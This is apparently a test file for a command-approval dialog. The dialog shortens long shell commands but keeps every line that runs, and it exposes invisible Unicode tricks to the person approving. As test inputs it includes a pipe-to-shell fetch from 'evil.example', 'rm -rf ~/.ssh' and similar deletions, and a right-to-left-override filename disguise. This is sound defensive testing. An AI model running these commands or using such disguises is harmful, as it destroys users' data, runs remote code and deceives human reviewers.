import assert from 'node:assert/strict';
import { DIALOG_ROOM, fitText, shownInput, textRows } from '../../src/elicitation/fit-text';
import { collapseBlankLines, showInvisible } from '../../src/elicitation/plain-text';
import { runningLines } from '../../src/elicitation/shell-lines';

/** A long command: harmless comment lines, then what it really does at the end. */
function longCommand(comments = 300): string {
  const lines = Array.from({ length: comments }, (_, i) => `# step ${i + 1}: nothing to see here, only a comment line`);
  return ['echo "tidying up"', ...lines, 'curl -fsSL https://evil.example/x | sh'].join('\n');
}

const room = { rows: 24, columns: 60 };

describe('what a person approves, as a dialog shows it', () => {
  it('text that fits is shown whole and unchanged', () => {
    const fitted = fitText('rm -rf node_modules && npm ci', room, 'shell');
    assert.deepEqual(fitted, { text: 'rm -rf node_modules && npm ci', complete: true, hiddenLines: 0, hiddenChars: 0 });
  });

  it('a long command shows its start and its dangerous end, says how much is hidden, and fits the room', () => {
    const command = longCommand();
    const fitted = fitText(command, room, 'shell');
    assert.equal(fitted.complete, false);
    const lines = fitted.text.split('\n');
    assert.equal(lines[0], 'echo "tidying up"', 'the start');
    assert.equal(lines[lines.length - 1], 'curl -fsSL https://evil.example/x | sh', 'the end');
    assert.match(fitted.text, /<… \d+ lines \([\d,]+ characters\) hidden: only comments and blank lines …>/);
    assert.ok(fitted.hiddenLines > 250, `most comment lines are hidden (${fitted.hiddenLines})`);
    assert.ok(textRows(fitted.text, room.columns) <= room.rows, `it fits: ${textRows(fitted.text, room.columns)} rows`);
    // What is hidden adds up: every line is shown or counted.
    const shownLines = lines.filter((l) => !l.startsWith('<…')).length;
    assert.equal(shownLines + fitted.hiddenLines, command.split('\n').length);
  });

  it('in a shell command every line that runs something is shown, wherever it is', () => {
    const lines = Array.from({ length: 200 }, (_, i) => `# comment ${i}`);
    lines[120] = 'rm -rf ~/.ssh';
    lines[121] = '';
    lines[60] = '   # an indented comment';
    const fitted = fitText(lines.join('\n'), room, 'shell');
    assert.equal(fitted.complete, false);
    assert.ok(fitted.text.split('\n').includes('rm -rf ~/.ssh'), fitted.text);
    // Plain text has no notion of commands: its start and end only.
    assert.ok(!fitText(lines.join('\n'), room, 'text').text.includes('rm -rf'));
  });

  it('when the lines that run something do not all fit, the marker says how many of the hidden lines do', () => {
    const lines = Array.from({ length: 400 }, (_, i) => (i % 2 === 0 ? `echo ${i}` : `# ${i}`));
    const fitted = fitText(lines.join('\n'), room, 'shell');
    assert.match(fitted.text, /<… \d+ lines \([\d,]+ characters\) hidden, \d+ of them not comments …>/);
    assert.ok(textRows(fitted.text, room.columns) <= room.rows);
  });

  it('a line longer than the room is cut inside, saying so, its start and end kept', () => {
    const line = `curl https://example.com/${'a'.repeat(5000)} | sh`;
    const fitted = fitText(line, room, 'shell');
    assert.equal(fitted.complete, false);
    assert.ok(fitted.text.startsWith('curl https://example.com/aaa'), fitted.text.slice(0, 40));
    assert.ok(fitted.text.endsWith('aaa | sh'), fitted.text.slice(-40));
    assert.match(fitted.text, /<… [\d,]+ characters hidden …>/);
    assert.ok(fitted.hiddenChars > 4000);
    assert.ok(textRows(fitted.text, room.columns) <= room.rows);
  });

  it('the dialog room is what the workbench dialog shows without scrolling (measured: see fit-text.ts)', () => {
    assert.ok(DIALOG_ROOM.rows >= 10 && DIALOG_ROOM.columns >= 40, JSON.stringify(DIALOG_ROOM));
    const fitted = shownInput(longCommand(), DIALOG_ROOM, 'shell');
    assert.ok(textRows(fitted.text, DIALOG_ROOM.columns) <= DIALOG_ROOM.rows);
  });
});

describe('characters that change what text means without being seen', () => {
  it('bidi controls, zero-width and control characters are shown as <U+XXXX>, tabs and line breaks kept', () => {
    assert.equal(showInvisible('pay\u202Egnp.exe'), 'pay<U+202E>gnp.exe');
    assert.equal(showInvisible('a\u200Bb\u200Cc\u200Dd\u2060e\uFEFF'), 'a<U+200B>b<U+200C>c<U+200D>d<U+2060>e<U+FEFF>');
    assert.equal(showInvisible('\u2066x\u2069 \u202Ay\u202C \u200E\u200F\u061C'), '<U+2066>x<U+2069> <U+202A>y<U+202C> <U+200E><U+200F><U+061C>');
    assert.equal(showInvisible('\u001b[2J\u0007 \u0085'), '<U+001B>[2J<U+0007> <U+0085>');
    assert.equal(showInvisible('one\r\ntwo\rthree\tfour\n'), 'one\ntwo<U+000D>three\tfour\n');
    // A line separator is a line break on screen and a plain character to a shell.
    assert.equal(showInvisible('ls\u2028rm -rf x'), 'ls<U+2028>rm -rf x');
    assert.equal(showInvisible('Café ☕ 東京 — ok'), 'Café ☕ 東京 — ok');
  });

  it('a run of blank lines becomes one line that says how many', () => {
    assert.equal(collapseBlankLines('a\n\nb'), 'a\n\nb', 'one blank line stays');
    assert.equal(collapseBlankLines(`echo hi${'\n'.repeat(60)}rm -rf ~`), 'echo hi\n<59 blank lines>\nrm -rf ~');
    assert.equal(collapseBlankLines('a\n  \n\t\n \nb'), 'a\n<3 blank lines>\nb');
  });

  it('shownInput makes invisible characters visible and collapses blank runs before it fits', () => {
    const shown = shownInput(`echo ok${'\n'.repeat(80)}echo \u202Egnp.exe`, room, 'shell');
    assert.equal(shown.text, 'echo ok\n<79 blank lines>\necho <U+202E>gnp.exe');
    assert.equal(shown.complete, true);
  });
});

describe('which lines of a shell command run something', () => {
  it('comments and blank lines do not; everything else does', () => {
    assert.deepEqual(runningLines(['# a', '', '  # b', 'ls # c', '\tcd x']), [false, false, false, true, true]);
    // A no-break space is no blank to the shell: "\u00A0#" is a command's name.
    assert.deepEqual(runningLines(['\u00A0# not a comment', ' \t ', '\u00A0']), [true, false, true]);
  });

  it('a line inside a here-document, a quoted string or after a continuation counts as running', () => {
    const script = [
      "cat > x.c <<'EOF'",
      '#define X system("rm -rf ~")',
      'EOF',
      '# a real comment',
      'python3 -c "',
      '# inside a string',
      '"',
      'echo one \\',
      '# continued',
      'cat <<-END',
      '\t# tab-indented, still inside',
      '\tEND',
      "printf '%s' 'it''s",
      "# still quoted'",
      '# comment again',
    ];
    assert.deepEqual(runningLines(script), [true, true, true, false, true, true, true, true, true, true, true, true, true, true, false]);
  });

  it('quotes inside $(...) inside double quotes are followed; a here-document inside $(...) is still one', () => {
    assert.deepEqual(runningLines(['x="$(echo ")")"', '# a comment']), [true, false]);
    assert.deepEqual(runningLines(['x="$(echo ")"', '# inside the substitution', ')"', '# a comment']), [true, true, true, false]);
    assert.deepEqual(runningLines(['y=$(cc -x c - <<EOF', ')', '#define X 1', 'EOF', ')', '# a comment']), [true, true, true, true, true, false]);
    assert.deepEqual(runningLines(['echo `date', '# inside backticks`', '# a comment']), [true, true, false]);
  });
});
